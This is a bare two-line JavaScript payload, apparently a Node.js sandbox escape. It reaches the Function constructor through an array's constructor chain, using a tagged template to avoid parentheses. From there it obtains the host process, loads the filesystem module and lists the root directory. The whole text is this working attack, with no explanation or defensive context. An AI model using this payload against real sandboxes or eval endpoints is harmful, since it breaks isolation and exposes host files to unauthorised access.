const out = [].constructor.constructor`return this.process.mainModule.require('fs')`();
console.log(out.readdirSync('/'));
